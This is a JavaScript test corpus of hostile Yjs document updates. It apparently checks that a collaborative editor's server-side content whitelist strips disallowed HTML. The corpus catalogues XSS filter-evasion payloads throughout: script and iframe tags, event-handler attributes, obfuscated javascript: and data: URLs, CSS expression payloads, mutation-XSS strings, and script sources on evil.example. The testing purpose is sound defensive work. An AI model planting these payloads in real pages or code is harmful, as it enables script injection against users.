// Hostile CRDT corpus for the content whitelist (proto/whitelist-default.json).
//
// Every vector is { name, marker, apply(doc, ctx), setup?(doc), group }:
// - `apply` performs Yjs operations on a Y.Doc (the runner wraps it in one
//   transaction: one update message).
// - `setup` (optional) runs in an EARLIER transaction and builds allowed content;
//   its return value is passed to `apply` as `ctx`. The runner waits until a peer has
//   the setup content before applying the hostile part, so the hostile content
//   arrives as a separate, later update targeting existing content.
// - `marker` (XSSCnnnZ, fixed width so no marker is a prefix of another) appears
//   ONLY in the disallowed part: an attribute VALUE, a style value, a mark value,
//   text inside a disallowed element, an embed, a value in a foreign root... never
//   in an attribute key, element name, mark name or root name (a removed map
//   entry's key survives garbage collection; its value does not).
// - `group` spreads vectors over a few documents; exotic content types (subdocs,
//   hooks, binary, array views of the roots) get their own document so that a
//   server refusing them outright cannot hide results of the others.
// - `solo: true`: content the server may refuse outright (close 4400) rather than
//   strip; the runner sends it on a separate connection.
//
// Sources: OWASP XSS filter evasion cheat sheet, mutation-XSS write-ups
// (noscript/template/textarea/xmp re-parsing), and the ways Yjs lets a client put
// non-HTML content into an XmlFragment / XmlText / Text.

import * as Y from 'yjs'

let counter = 0
const nextMarker = () => `XSSC${String(++counter).padStart(3, '0')}Z`

/** @type {Array<{name:string, marker:string, group:string, apply:(doc:Y.Doc, ctx:any)=>void, setup?:(doc:Y.Doc)=>any}>} */
export const vectors = []

function add (group, name, apply, setup, extra = {}) {
  const marker = nextMarker()
  const v = { name, marker, group, apply: (doc, ctx) => apply(doc, marker, ctx), ...extra }
  if (setup) v.setup = (doc) => setup(doc, marker)
  vectors.push(v)
}

// ---------------------------------------------------------------------------
// Building blocks (all append at the end, so vectors never disturb each other)
// ---------------------------------------------------------------------------

const bodyOf = (doc) => doc.getXmlFragment('body')
const titleOf = (doc) => doc.getText('title')

/** Appends `node` to `parent` (default: body) and returns it (integrated). */
function append (doc, node, parent = bodyOf(doc)) {
  parent.insert(parent.length, [node])
  return node
}

/** A prelim element with attributes and children (strings become XmlText). */
function el (name, attrs = {}, children = []) {
  const e = new Y.XmlElement(name)
  for (const [k, v] of Object.entries(attrs)) e.setAttribute(k, v)
  if (children.length) e.insert(0, children.map((c) => typeof c === 'string' ? new Y.XmlText(c) : c))
  return e
}

/** Appends `<p>` holding one XmlText built from [text, attributes] segments; returns {p, text}. */
function para (doc, segments, parent = bodyOf(doc), name = 'p') {
  const p = append(doc, new Y.XmlElement(name), parent)
  const text = new Y.XmlText()
  p.insert(0, [text])
  for (const [s, attrs] of segments) text.insert(text.length, s, attrs ?? {})
  return { p, text }
}

/** Appends an allowed element (integrated) and then sets the attributes on it. */
function appendWithAttrs (doc, name, attrs, textContent = 'harmless text') {
  const e = append(doc, new Y.XmlElement(name))
  if (textContent !== null && !['img', 'br', 'hr', 'col'].includes(name)) e.insert(0, [new Y.XmlText(textContent)])
  for (const [k, v] of Object.entries(attrs)) e.setAttribute(k, v)
  return e
}

/**
 * Performs `fn(view)` on a scratch Y.Doc holding `doc`'s state (so roots can be
 * accessed as other types, e.g. `title` as a Y.Array) and applies the resulting
 * diff to `doc`: the content then reaches the server through `doc`'s provider.
 */
function viaView (doc, fn) {
  const view = new Y.Doc()
  Y.applyUpdate(view, Y.encodeStateAsUpdate(doc))
  const sv = Y.encodeStateVector(view)
  fn(view)
  Y.applyUpdate(doc, Y.encodeStateAsUpdate(view, sv))
  view.destroy()
}

const bytes = (s) => new TextEncoder().encode(s)

// ---------------------------------------------------------------------------
// 1. Disallowed elements (marker in the text inside and/or in attribute values)
// ---------------------------------------------------------------------------

const disallowed = [
  ['script', { src: 'https://evil.example/M.js' }, 'alert("M")'],
  ['style', {}, 'body { background: url("javascript:alert(\'M\')") }'],
  ['iframe', { src: 'javascript:alert("M")' }, 'M'],
  ['iframe', { srcdoc: '<script>alert("M")</script>' }, ''],
  ['object', { data: 'javascript:alert("M")', type: 'text/html' }, 'M'],
  ['embed', { src: 'data:image/svg+xml,<svg onload=alert("M")>' }, ''],
  ['base', { href: 'javascript:alert("M")//' }, ''],
  ['meta', { 'http-equiv': 'refresh', content: '0;url=javascript:alert("M")' }, ''],
  ['link', { rel: 'stylesheet', href: 'https://evil.example/M.css' }, ''],
  ['svg', { onload: 'alert("M")' }, 'M'],
  ['math', {}, 'M'],
  ['frame', { src: 'javascript:alert("M")' }, ''],
  ['frameset', { onload: 'alert("M")' }, ''],
  ['applet', { code: 'M.class', codebase: 'https://evil.example/' }, 'M'],
  ['noscript', {}, '</noscript><img src=x onerror=alert("M")>'],
  ['template', {}, '<img src=x onerror=alert("M")>'],
  ['textarea', {}, '</textarea><script>alert("M")</script>'],
  ['select', { onfocus: 'alert("M")', autofocus: 'autofocus' }, 'M'],
  ['option', {}, 'M'],
  ['input', { type: 'image', src: 'javascript:alert("M")', onfocus: 'alert("M")' }, ''],
  ['button', { formaction: 'javascript:alert("M")' }, 'M'],
  ['video', { src: 'https://evil.example/M.mp4', onerror: 'alert("M")' }, ''],
  ['audio', { src: 'x', onerror: 'alert("M")' }, ''],
  ['source', { src: 'https://evil.example/M.mp4', onerror: 'alert("M")' }, ''],
  ['track', { src: 'https://evil.example/M.vtt' }, ''],
  ['marquee', { onstart: 'alert("M")' }, 'M'],
  ['isindex', { action: 'javascript:alert("M")', type: 'image' }, ''],
  ['xmp', {}, '<img src=x onerror=alert("M")>'],
  ['plaintext', {}, '<script>alert("M")</script>'],
  ['listing', {}, '&lt;img src=x onerror=alert("M")&gt;'],
  ['noembed', {}, '<img title="</noembed><img src onerror=alert(\'M\')>">'],
  ['noframes', {}, '<img title="</noframes><img src onerror=alert(\'M\')>">'],
  ['keygen', { autofocus: '', onfocus: 'alert("M")' }, ''],
  ['details', { open: '', ontoggle: 'alert("M")' }, 'M'],
  ['summary', {}, 'M'],
  ['dialog', { open: '' }, 'M'],
  ['canvas', {}, 'M'],
  ['picture', {}, 'M'],
  ['portal', { src: 'https://evil.example/M' }, ''],
  ['slot', {}, 'M'],
  ['bgsound', { src: 'javascript:alert("M")' }, ''],
  ['layer', { src: 'https://evil.example/M.html' }, ''],
  ['ilayer', {}, 'M'],
  ['xml', {}, 'M'],
  ['title', {}, '</title><script>alert("M")</script>'],
  ['head', {}, 'M'],
  ['html', {}, 'M'],
  ['body', { onload: 'alert("M")' }, 'M'],
  ['animate', { attributeName: 'href', values: 'javascript:alert("M")' }, ''],
  ['set', { attributeName: 'onmouseover', to: 'alert("M")' }, ''],
  ['foreignObject', {}, 'M'],
  ['use', { href: 'data:image/svg+xml,<svg id=x><script>alert("M")</script></svg>#x' }, ''],
  ['image', { href: 'javascript:alert("M")' }, ''],
  ['param', { name: 'movie', value: 'javascript:alert("M")' }, ''],
  ['x-evil', {}, 'M'],
  ['my-custom-element', { is: 'M' }, 'M'],
  // uppercase / mixed case / odd spellings of disallowed names
  ['SCRIPT', {}, 'alert("M")'],
  ['ScRiPt', {}, 'alert("M")'],
  ['IFRAME', { SRC: 'javascript:alert("M")' }, 'M'],
  ['sVg', {}, 'M'],
  ['Style', {}, '* { background: url(M) }'],
  ['script ', {}, 'alert("M")'],
  ['scr\u0000ipt', {}, 'alert("M")'],
  ['svg:script', {}, 'alert("M")'],
  ['xss', { style: 'behavior: url(M.htc)' }, 'M'],
  // names a serialiser might treat specially
  ['', {}, '<img src=x onerror=alert("M")>'],
  ['#text', {}, '<script>alert("M")</script>'],
  ['#comment', {}, '--><script>alert("M")</script><!--'],
  ['!--', {}, '--><script>alert("M")</script>'],
  ['?xml', {}, '<script>alert("M")</script>'],
  ['p onclick=alert(1)', {}, 'M'],
  ['img/src=x/onerror=alert(1)', {}, 'M']
]

for (const [name, attrs, text] of disallowed) {
  const label = `element <${JSON.stringify(name).slice(1, -1)}>` + (Object.keys(attrs).length ? ` with ${Object.keys(attrs).join(',')}` : '')
  add('elements', label, (doc, m) => {
    const a = Object.fromEntries(Object.entries(attrs).map(([k, v]) => [k, v.replaceAll('M', m)]))
    const children = text ? [text.replaceAll('M', m)] : []
    append(doc, el(name, a, children))
  })
}

// ---------------------------------------------------------------------------
// 2. Disallowed elements nested inside allowed ones
// ---------------------------------------------------------------------------

add('elements', 'script deep inside div>blockquote>ul>li>p', (doc, m) => {
  append(doc, el('div', {}, [el('blockquote', {}, [el('ul', {}, [el('li', {}, [el('p', {}, ['before ', el('script', {}, [`alert("${m}")`]), ' after'])])])])]))
})
add('elements', 'iframe at the bottom of 60 nested divs', (doc, m) => {
  let inner = el('iframe', { src: `javascript:alert("${m}")` }, [m])
  for (let i = 0; i < 60; i++) inner = el('div', {}, [inner])
  append(doc, inner)
})
add('elements', 'svg>script inside a table cell', (doc, m) => {
  append(doc, el('table', {}, [el('tbody', {}, [el('tr', {}, [el('td', {}, [el('svg', {}, [el('script', {}, [`alert("${m}")`])])])])])]))
})
add('elements', 'noscript with img-title mXSS inside li', (doc, m) => {
  append(doc, el('ul', {}, [el('li', {}, [el('noscript', {}, [el('p', { title: `</noscript><img src=x onerror=alert("${m}")>` }, ['x'])])])]))
})
add('elements', 'template inside td holding an allowed p', (doc, m) => {
  append(doc, el('table', {}, [el('tr', {}, [el('td', {}, [el('template', {}, [el('p', {}, [m])])])])]))
})
add('elements', 'math>mtext>table>mglyph>style inside p (mXSS)', (doc, m) => {
  append(doc, el('p', {}, [el('math', {}, [el('mtext', {}, [el('table', {}, [el('mglyph', {}, [el('style', {}, [`<img src=x onerror=alert("${m}")>`])])])])])]))
})
add('elements', 'disallowed element between allowed siblings in a list', (doc, m) => {
  append(doc, el('ol', {}, [el('li', {}, ['one']), el('object', { data: `https://evil.example/${m}.swf` }, []), el('li', {}, ['two'])]))
})
add('elements', 'form>input with formaction inside an allowed form', (doc, m) => {
  append(doc, el('form', { name: 'f' }, [el('label', { for: 'x' }, ['label']), el('input', { formaction: `javascript:alert("${m}")`, type: 'submit' }, [])]))
})
add('elements', 'XmlText embed of a script element inside a heading', (doc, m) => {
  const h = append(doc, new Y.XmlElement('h2'))
  const t = new Y.XmlText('heading')
  h.insert(0, [t])
  t.insertEmbed(3, el('script', {}, [`alert("${m}")`]))
})

// ---------------------------------------------------------------------------
// 3. Event handlers and other attributes outside the policy on allowed elements
// ---------------------------------------------------------------------------

const handlers = [
  ['img', 'onerror'], ['img', 'onload'], ['p', 'onclick'], ['a', 'onmouseover'], ['div', 'onload'],
  ['span', 'onfocus'], ['td', 'onmouseenter'], ['img', 'ONERROR'], ['p', 'OnClick'], ['li', 'onpointerdown'],
  ['table', 'onanimationstart'], ['h1', 'oncopy'], ['div', 'onfocusin'], ['code', 'onwheel'], ['a', 'onauxclick'],
  ['blockquote', 'ontoggle'], ['pre', 'onbeforeinput'], ['time', 'onfocus'], ['label', 'onclick'], ['form', 'onsubmit']
]
for (const [tag, attr] of handlers) {
  add('attributes', `<${tag} ${attr}>`, (doc, m) => {
    appendWithAttrs(doc, tag, { [attr]: `alert("${m}")`, ...(tag === 'img' ? { src: 'https://ok.example/a.png', alt: 'ok' } : {}) })
  })
}
add('attributes', '<div onfocus autofocus tabindex> (autofocus trick)', (doc, m) => {
  appendWithAttrs(doc, 'div', { onfocus: `alert("${m}")`, autofocus: '', tabindex: '1' })
})
add('attributes', '<input onfocus autofocus> inside p', (doc, m) => {
  append(doc, el('p', {}, [el('input', { onfocus: `alert("${m}")`, autofocus: '' })]))
})

const notInPolicy = [
  ['a', 'formaction', 'javascript:alert("M")'], ['p', 'srcdoc', '<script>alert("M")</script>'],
  ['a', 'xlink:href', 'javascript:alert("M")'], ['img', 'srcset', 'https://evil.example/M.png 1x'],
  ['a', 'ping', 'https://evil.example/M'], ['table', 'background', 'javascript:alert("M")'],
  ['img', 'dynsrc', 'javascript:alert("M")'], ['img', 'lowsrc', 'javascript:alert("M")'],
  ['img', 'poster', 'https://evil.example/M.png'], ['div', 'data', 'javascript:alert("M")'],
  ['p', 'xmlns', 'http://www.w3.org/1999/xhtml#M'], ['div', 'data-evil', 'M'],
  ['form', 'action', 'javascript:alert("M")'], ['p', 'href', 'https://evil.example/M'],
  ['span', 'src', 'https://evil.example/M'], ['div', 'is', 'M-element'],
  ['p', 'title" onmouseover="alert(1)', 'M'], ['img', ' onerror', 'alert("M")'],
  ['a', 'href ', 'javascript:alert("M")'], ['p', 'tabindex', 'M'],
  ['td', 'background', 'https://evil.example/M.png'], ['a', 'download', 'M.exe'],
  ['img', 'usemap', '#M'], ['div', 'slot', 'M'], ['p', 'part', 'M']
]
for (const [tag, attr, value] of notInPolicy) {
  add('attributes', `<${tag} ${JSON.stringify(attr)}> not in policy`, (doc, m) => {
    appendWithAttrs(doc, tag, { [attr]: value.replaceAll('M', m) })
  })
}

// Uppercase tag names of ALLOWED elements: the marker is only in an attribute that
// is disallowed whatever the server does with the tag's case.
add('attributes', '<P onclick> (uppercase allowed tag)', (doc, m) => { appendWithAttrs(doc, 'P', { onclick: `alert("${m}")` }) })
add('attributes', '<IMG SRC=javascript:> (uppercase tag and key)', (doc, m) => { appendWithAttrs(doc, 'IMG', { SRC: `javascript:alert("${m}")` }) })
add('attributes', '<A HREF=javascript:> (uppercase key on a)', (doc, m) => { appendWithAttrs(doc, 'a', { HREF: `javascript:alert("${m}")` }) })
add('attributes', '<Div Style=background:url()> (mixed-case key)', (doc, m) => { appendWithAttrs(doc, 'Div', { Style: `background-image: url(javascript:alert("${m}"))` }) })

// Attribute values that are not strings/numbers/booleans
add('attributes', 'attribute value: object', (doc, m) => { appendWithAttrs(doc, 'p', { title: { toString: m } }) })
add('attributes', 'attribute value: array', (doc, m) => { appendWithAttrs(doc, 'p', { class: [m, 'x'] }) })
add('attributes', 'attribute value: nested object on href', (doc, m) => { appendWithAttrs(doc, 'a', { href: { href: 'https://ok.example/', evil: m } }) })
add('attributes', 'attribute value: Y.Text', (doc, m) => { appendWithAttrs(doc, 'p', { id: new Y.Text(m) }) })
add('attributes', 'attribute value: Y.Map', (doc, m) => {
  const map = new Y.Map()
  map.set('k', m)
  appendWithAttrs(doc, 'p', { title: map })
})
add('attributes', 'attribute value: Y.XmlElement script', (doc, m) => { appendWithAttrs(doc, 'div', { 'data-ref': el('script', {}, [`alert("${m}")`]) }) })
add('attributes', 'attribute value: Y.Array', (doc, m) => { appendWithAttrs(doc, 'span', { class: Y.Array.from([m]) }) })
add('attributes', 'attribute value: object on a data-macro-* prefix attribute', (doc, m) => { appendWithAttrs(doc, 'div', { 'data-macro-parameters': { body: m } }) })
add('attributes', 'attribute value: Uint8Array', (doc, m) => { appendWithAttrs(doc, 'p', { title: bytes(m) }) })

// ---------------------------------------------------------------------------
// 4. URL attributes with refused schemes
// ---------------------------------------------------------------------------

const badUrls = [
  ['javascript:', 'javascript:alert("M")'],
  ['JaVaScRiPt:', 'JaVaScRiPt:alert("M")'],
  ['java\\tscript:', 'java\tscript:alert("M")'],
  ['java\\nscript:', 'java\nscript:alert("M")'],
  ['java\\rscript:', 'java\rscript:alert("M")'],
  ['\\x01javascript:', '\x01javascript:alert("M")'],
  ['leading spaces', '   javascript:alert("M")'],
  ['java\\0script:', 'java\u0000script:alert("M")'],
  ['nbsp-prefixed', '\u00a0javascript:alert("M")'],
  ['U+2028 inside scheme', 'java\u2028script:alert("M")'],
  ['vbscript:', 'vbscript:msgbox("M")'],
  ['livescript:', 'livescript:alert("M")'],
  ['data:text/html', 'data:text/html,<script>alert("M")</script>'],
  ['data:text/html;base64', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#M'],
  ['data:image/svg+xml', 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'M\')"/>'],
  ['&#106;avascript:', '&#106;avascript:alert("M")'],
  ['&#x6A;avascript:', '&#x6A;avascript:alert("M")'],
  ['jav&#x09;ascript:', 'jav&#x09;ascript:alert("M")'],
  ['javascript&colon;', 'javascript&colon;alert("M")'],
  ['file:', 'file:///etc/passwd#M'],
  ['ftp:', 'ftp://evil.example/M'],
  ['blob:', 'blob:https://evil.example/M'],
  ['javascript://%0A', 'javascript://%0Aalert("M")'],
  ['JAVASCRIPT: with tab prefix', '\tJAVASCRIPT:alert("M")'],
  ['x-javascript:', 'x-javascript:alert("M")'],
  ['about:', 'about:blank#M']
]
const urlSlots = [
  ['a', 'href'], ['img', 'src'], ['blockquote', 'cite'], ['q', 'cite'], ['del', 'cite'], ['ins', 'cite'],
  ['p', 'data-base-url'], ['a', 'href'], ['img', 'src']
]
badUrls.forEach(([label, url], i) => {
  const [tag, attr] = urlSlots[i % urlSlots.length]
  add('urls', `<${tag} ${attr}=${label}>`, (doc, m) => {
    appendWithAttrs(doc, tag, { [attr]: url.replaceAll('M', m), ...(tag === 'img' ? { alt: 'ok' } : {}) })
  })
})

add('urls', '<img data-image-src=javascript:> (Confluence URL attribute)', (doc, m) => {
  appendWithAttrs(doc, 'img', { src: 'https://ok.example/a.png', 'data-image-src': `javascript:alert("${m}")` })
})
add('urls', '<a href> set to a relative-looking entity URL (&colon)', (doc, m) => {
  appendWithAttrs(doc, 'a', { href: `javascript&colon;alert&lpar;"${m}"&rpar;` })
})

// ---------------------------------------------------------------------------
// 5. style attributes with refused declarations
// ---------------------------------------------------------------------------

const badStyles = [
  'background-image: url(javascript:alert("M"))',
  'color: red; background: url("javascript:alert(\'M\')")',
  'width: expression(alert("M"))',
  'color: expression(alert(M))',
  '-moz-binding: url("https://evil.example/xss.xml#M")',
  'behavior: url(M.htc)',
  '@import "https://evil.example/M.css"',
  'color: blue; @import url(M)',
  'color: green; background: \\75rl(M)',
  'color: r\\65 d; font-size: 12px /* M */',
  'padding: 10px M',
  'text-align: center; padding-left: 999px /* M */',
  'position: fixed; top: 0; left: 0; width: 100%; height: 100%; z-index: 99999; background: url(https://evil.example/M.png)',
  'position: absolute /* M */',
  'background-image: url(data:image/svg+xml;base64,M)',
  'list-style-image: url(javascript:alert("M"))',
  'color: red; } body { background: url(M) }',
  'font-family: x</style><script>alert("M")</script>',
  'cursor: url(https://evil.example/M.cur), auto',
  "filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='M')",
  'color: red; -o-link: "javascript:alert(\'M\')"; -o-link-source: current',
  'animation-name: M; animation-duration: 1s',
  'background-color: rgb(1,2,3); content: "M"',
  'color: javascript:alert(M)',
  'margin: 0 <M>'
]
const styleSlots = ['p', 'div', 'span', 'td', 'h3', 'li', 'blockquote', 'img', 'table', 'a']
badStyles.forEach((style, i) => {
  const tag = styleSlots[i % styleSlots.length]
  add('styles', `<${tag} style=${JSON.stringify(style.replaceAll('M', '…'))}>`, (doc, m) => {
    appendWithAttrs(doc, tag, { style: style.replaceAll('M', m) })
  })
})
add('styles', '<p STYLE=...> (uppercase key)', (doc, m) => { appendWithAttrs(doc, 'p', { STYLE: `background-image: url(javascript:alert("${m}"))` }) })
add('styles', 'style value: object', (doc, m) => { appendWithAttrs(doc, 'p', { style: { color: m } }) })

// ---------------------------------------------------------------------------
// 6. Marks (formatting attributes on XmlText)
// ---------------------------------------------------------------------------

const badMarks = [
  ['unknown mark script', { script: { src: 'https://evil.example/M.js' } }],
  ['unknown mark iframe', { iframe: { src: 'javascript:alert("M")' } }],
  ['unknown mark onclick (string value)', { onclick: 'alert("M")' }],
  ['unknown mark img', { img: { src: 'x', onerror: 'alert("M")' } }],
  ['unknown mark style', { style: { css: 'background:url(M)' } }],
  ['unknown mark SCRIPT', { SCRIPT: { src: 'M' } }],
  ['unknown mark script--abcd1234', { 'script--abcd1234': { src: 'M' } }],
  ['unknown mark font', { font: { face: 'M' } }],
  ['a mark javascript: href', { a: { href: 'javascript:alert("M")' } }],
  ['a mark JaVaScRiPt: href', { a: { href: 'JaVaScRiPt:alert("M")' } }],
  ['a mark java\\tscript: href', { a: { href: 'java\tscript:alert("M")' } }],
  ['a mark data:text/html href', { a: { href: 'data:text/html,<script>alert("M")</script>' } }],
  ['a mark &#106;avascript: href', { a: { href: '&#106;avascript:alert("M")' } }],
  ['a mark vbscript: href', { a: { href: 'vbscript:msgbox("M")' } }],
  ['a--abcd1234 mark javascript: href', { 'a--abcd1234': { href: 'javascript:alert("M")' } }],
  ['A mark (uppercase name) javascript: href', { A: { href: 'javascript:alert("M")' } }],
  ['a mark HREF key javascript:', { a: { HREF: 'javascript:alert("M")' } }],
  ['a mark with onclick', { a: { href: 'https://ok.example/', onclick: 'alert("M")' } }],
  ['a mark with onmouseover only', { a: { onmouseover: 'alert("M")' } }],
  ['a mark href object', { a: { href: { url: 'M' } } }],
  ['a mark href array', { a: { href: ['javascript:alert("M")'] } }],
  ['a mark with style (not allowed on a)', { a: { href: 'https://ok.example/', style: 'color: red; background: url(M)' } }],
  ['a mark string value', { a: 'javascript:alert("M")' }],
  ['span mark bad style', { span: { style: 'color: red; background-image: url(javascript:alert("M"))' } }],
  ['span mark expression style', { span: { style: 'width: expression(alert("M"))' } }],
  ['span mark position:fixed', { span: { style: 'position: fixed; top: 0; content: "M"' } }],
  ['span mark onmouseover', { span: { class: 'x', onmouseover: 'alert("M")' } }],
  ['span mark style object', { span: { style: { color: 'M' } } }],
  ['span--0f0f0f0f mark bad style', { 'span--0f0f0f0f': { style: 'behavior: url(M.htc)' } }],
  ['strong mark with onclick', { strong: { onclick: 'alert("M")' } }],
  ['em mark with style', { em: { style: 'background: url(M)' } }],
  ['code mark with title (not allowed on code)', { code: { title: 'M' } }],
  ['mark with nested object', { span: { class: { deep: ['M'] } } }]
]
for (const [label, attrs] of badMarks) {
  add('marks', `${label} (insert with attributes)`, (doc, m) => {
    const a = JSON.parse(JSON.stringify(attrs).replaceAll('M', m))
    para(doc, [['plain start ', {}], ['formatted words', a], [' plain end', {}]])
  })
}
add('marks', 'a mark javascript: applied via text.format in the same transaction', (doc, m) => {
  const { text } = para(doc, [['click this link please', {}]])
  text.format(6, 4, { a: { href: `javascript:alert("${m}")` } })
})
add('marks', 'unknown mark applied via text.format over the whole text', (doc, m) => {
  const { text } = para(doc, [['whole text', {}]])
  text.format(0, text.length, { iframe: { src: m } })
})
add('marks', 'bad mark nested inside an allowed strong mark', (doc, m) => {
  para(doc, [['a ', {}], ['bold and evil', { strong: {}, a: { href: `javascript:alert("${m}")` } }], [' b', {}]])
})
add('marks', 'bad mark on text in a table cell', (doc, m) => {
  const td = el('td')
  append(doc, el('table', {}, [el('tr', {}, [td])]))
  para(doc, [['cell ', {}], ['text', { span: { style: `behavior: url(${m})` } }]], td, 'p')
})

// ---------------------------------------------------------------------------
// 7. Embeds and non-string content in XmlText, XmlText attributes
// ---------------------------------------------------------------------------

add('embeds', 'XmlText insertEmbed JSON object', (doc, m) => {
  const { text } = para(doc, [['before after', {}]])
  text.insertEmbed(7, { image: `javascript:alert("${m}")` })
})
add('embeds', 'XmlText insertEmbed allowed-looking img object', (doc, m) => {
  const { text } = para(doc, [['x', {}]])
  text.insertEmbed(1, { img: { src: `https://ok.example/${m}.png` } })
})
add('embeds', 'XmlText insertEmbed Y.Map', (doc, m) => {
  const { text } = para(doc, [['x', {}]])
  const map = new Y.Map()
  map.set('html', `<script>alert("${m}")</script>`)
  text.insertEmbed(0, map)
})
add('embeds', 'XmlText insertEmbed Y.Text', (doc, m) => {
  const { text } = para(doc, [['x', {}]])
  text.insertEmbed(1, new Y.Text(m))
})
add('embeds', 'XmlText insertEmbed Y.XmlElement iframe', (doc, m) => {
  const { text } = para(doc, [['x', {}]])
  text.insertEmbed(1, el('iframe', { src: `javascript:alert("${m}")` }, []))
})
add('embeds', 'XmlText insertEmbed with an allowed mark', (doc, m) => {
  const { text } = para(doc, [['x', {}]])
  text.insertEmbed(1, { html: m }, { strong: {} })
})
add('embeds', 'XmlText setAttribute onclick', (doc, m) => {
  const { text } = para(doc, [['text with attribute', {}]])
  text.setAttribute('onclick', `alert("${m}")`)
})
add('embeds', 'XmlText setAttribute style', (doc, m) => {
  const { text } = para(doc, [['text with style attribute', {}]])
  text.setAttribute('style', `background: url(${m})`)
})
add('embeds', 'XmlText setAttribute class (any attribute on XmlText)', (doc, m) => {
  const { text } = para(doc, [['text with class attribute', {}]])
  text.setAttribute('class', m)
})
add('embeds', 'XmlText setAttribute href javascript:', (doc, m) => {
  const { text } = para(doc, [['text with href attribute', {}]])
  text.setAttribute('href', `javascript:alert("${m}")`)
})

// ---------------------------------------------------------------------------
// 8. The title: plain text only
// ---------------------------------------------------------------------------

add('title', 'title insertEmbed JSON', (doc, m) => {
  const t = titleOf(doc)
  t.insert(t.length, ' t1')
  t.insertEmbed(t.length, { script: m })
})
add('title', 'title insertEmbed Y.XmlElement script', (doc, m) => {
  const t = titleOf(doc)
  t.insertEmbed(t.length, el('script', {}, [`alert("${m}")`]))
})
add('title', 'title insertEmbed Y.Map', (doc, m) => {
  const t = titleOf(doc)
  const map = new Y.Map()
  map.set('v', m)
  t.insertEmbed(t.length, map)
})
add('title', 'title formatted insert (a mark)', (doc, m) => {
  const t = titleOf(doc)
  t.insert(t.length, ' linked', { a: { href: `https://ok.example/${m}` } })
})
add('title', 'title formatted insert (bold string value)', (doc, m) => {
  const t = titleOf(doc)
  t.insert(t.length, ' bold', { bold: m })
})
add('title', 'title format() over existing text', (doc, m) => {
  const t = titleOf(doc)
  t.insert(t.length, ' fmt')
  t.format(t.length - 3, 3, { em: { note: m } })
})
add('title', 'title setAttribute (map entry on the title root)', (doc, m) => {
  titleOf(doc).setAttribute('onclick', `alert("${m}")`)
})
add('title', 'body root attribute (map entry on the body fragment)', (doc, m) => {
  Y.XmlElement.prototype.setAttribute.call(bodyOf(doc), 'onload', `alert("${m}")`)
})

// ---------------------------------------------------------------------------
// 9. Foreign roots
// ---------------------------------------------------------------------------

add('roots', 'foreign root Y.Map evil', (doc, m) => { doc.getMap('evil').set('payload', `<script>alert("${m}")</script>`) })
add('roots', 'foreign root Y.Map with nested Y.Text', (doc, m) => { doc.getMap('evil2').set('t', new Y.Text(m)) })
add('roots', 'foreign root Y.Text other', (doc, m) => { doc.getText('other').insert(0, m) })
add('roots', 'foreign root Y.Array arr', (doc, m) => { doc.getArray('arr').push([m, { k: m }]) })
add('roots', 'foreign root Y.XmlFragment body2', (doc, m) => {
  const f = doc.getXmlFragment('body2')
  f.insert(0, [el('p', {}, [m]), el('script', {}, [m])])
})
add('roots', 'foreign root Y.XmlElement', (doc, m) => { doc.getXmlElement('evilEl').setAttribute('title', m) })
add('roots', 'foreign root Body (case variant of body)', (doc, m) => { doc.getXmlFragment('Body').insert(0, [el('p', {}, [m])]) })
add('roots', 'foreign root "title " (trailing space)', (doc, m) => { doc.getText('title ').insert(0, m) })
add('roots', 'foreign root with an empty name', (doc, m) => { doc.getMap('').set('x', m) })
add('roots', 'foreign root __proto__', (doc, m) => { doc.getMap('__proto__').set('x', m) })

// ---------------------------------------------------------------------------
// 10. Exotic content: non-XML children, binary, subdocuments, array views
// ---------------------------------------------------------------------------

add('exotic', 'body child: plain string', (doc, m) => { bodyOf(doc).insert(bodyOf(doc).length, [`<script>alert("${m}")</script>`]) })
add('exotic', 'body child: plain JSON object', (doc, m) => { bodyOf(doc).insert(bodyOf(doc).length, [{ nodeName: 'script', text: m }]) })
add('exotic', 'body child: binary', (doc, m) => { bodyOf(doc).insert(bodyOf(doc).length, [bytes(`<script>${m}</script>`)]) })
add('exotic', 'body child: Y.Map', (doc, m) => {
  const map = new Y.Map()
  map.set('nodeName', 'p')
  map.set('text', m)
  bodyOf(doc).insert(bodyOf(doc).length, [map])
})
add('exotic', 'body child: Y.Text', (doc, m) => { bodyOf(doc).insert(bodyOf(doc).length, [new Y.Text(m)]) })
add('exotic', 'body child: Y.Array', (doc, m) => { bodyOf(doc).insert(bodyOf(doc).length, [Y.Array.from([m])]) })
// yrs does not decode XmlHook content: the server may close the sender with 4400
// (malformed-payload) instead of stripping. `solo` vectors are therefore sent on a
// connection of their own (a provider would resend them on every reconnect).
add('exotic', 'body child: Y.XmlHook with a value', (doc, m) => {
  const hook = new Y.XmlHook('custom-hook')
  hook.set('html', `<img src=x onerror=alert("${m}")>`)
  bodyOf(doc).insert(bodyOf(doc).length, [hook])
}, undefined, { solo: true })
add('exotic', 'body child: nested Y.XmlFragment holding a script', (doc, m) => {
  const frag = new Y.XmlFragment()
  frag.insert(0, [el('script', {}, [`alert("${m}")`])])
  bodyOf(doc).insert(bodyOf(doc).length, [frag])
})
add('exotic', 'body child: subdocument', (doc, m) => { bodyOf(doc).insert(bodyOf(doc).length, [new Y.Doc({ guid: `sub-${m}` })]) })
add('exotic', 'p child: plain string', (doc, m) => {
  const p = append(doc, new Y.XmlElement('p'))
  p.insert(0, [new Y.XmlText('ok '), `<img src=x onerror=alert("${m}")>`])
})
add('exotic', 'li child: Y.Map', (doc, m) => {
  const li = el('li')
  append(doc, el('ul', {}, [li]))
  const map = new Y.Map()
  map.set('x', m)
  li.insert(0, [new Y.XmlText('item'), map])
})
add('exotic', 'td child: Y.Text (not XmlText)', (doc, m) => {
  const td = el('td')
  append(doc, el('table', {}, [el('tr', {}, [td])]))
  td.insert(0, [new Y.Text(m)])
})
add('exotic', 'foreign root map: subdocument', (doc, m) => { doc.getMap('subdocs').set('s', new Y.Doc({ guid: `sub-${m}` })) })
add('exotic', 'foreign root array: binary', (doc, m) => { doc.getArray('bin').push([bytes(m)]) })
add('exotic', 'title viewed as Y.Array: JSON value', (doc, m) => {
  viaView(doc, (v) => { const a = v.getArray('title'); a.insert(a.length, [{ script: m }]) })
})
add('exotic', 'title viewed as Y.Array: binary', (doc, m) => {
  viaView(doc, (v) => { const a = v.getArray('title'); a.insert(a.length, [bytes(m)]) })
})
add('exotic', 'body viewed as Y.Array: JSON value', (doc, m) => {
  viaView(doc, (v) => { const a = v.getArray('body'); a.insert(a.length, [`<iframe src=javascript:alert("${m}")>`]) })
})
